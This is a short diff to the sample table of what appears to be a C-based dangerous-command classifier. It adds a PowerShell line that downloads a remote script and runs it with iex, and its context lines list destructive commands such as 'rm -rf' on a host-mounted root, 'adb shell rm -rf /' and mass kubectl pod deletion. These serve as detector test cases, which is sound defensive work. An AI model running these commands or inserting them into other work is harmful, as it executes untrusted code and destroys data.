@@ -125,6 +125,8 @@ static const struct sample samples[] = {
 	{ 'W', "docker run --rm -v /:/host alpine rm -rf /host" },
 	{ '-', "kubectl delete $(kubectl create -f x.yaml -o name)" },
 	{ 'W', "kubectl delete $(kubectl get pods -o name)" },
+	{ 'E', "powershell -Command \"[Net.ServicePointManager]::SecurityProtocol = 3072; iex "
+	       "((New-Object Net.WebClient).DownloadString('https://x.y/i.ps1'))\"" },
 	{ 'E', "adb -s emulator shell rm -rf /" },
 	{ 'W', "lxc-destroy -n \1" },
 	{ '-', "lxc-stop -n \1" },
